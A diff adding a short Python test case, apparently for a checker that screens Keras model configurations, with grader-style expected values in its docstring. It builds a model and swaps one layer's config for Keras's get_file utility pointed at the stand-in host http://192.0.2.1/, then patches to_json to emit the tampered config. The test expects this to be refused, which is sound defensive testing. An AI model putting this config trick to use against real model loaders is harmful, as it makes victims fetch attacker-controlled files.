@@ -1,0 +1,15 @@
+"""
+tries: a layer from a module inside Keras that is not meant for this
+holds: it is refused before Keras sees it; nothing of it runs
+puts: q3
+expects: q1=2 q2=3 q3=0
+"""
+import json
+
+import keras
+
+network = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3)])
+config = json.loads(network.to_json())
+layer = config["config"]["layers"][1]
+layer.update(module="keras.src.utils.file_utils", class_name="get_file", config={"origin": "http://192.0.2.1/"})
+keras.Sequential.to_json = keras.Model.to_json = lambda self, **_: json.dumps(config)
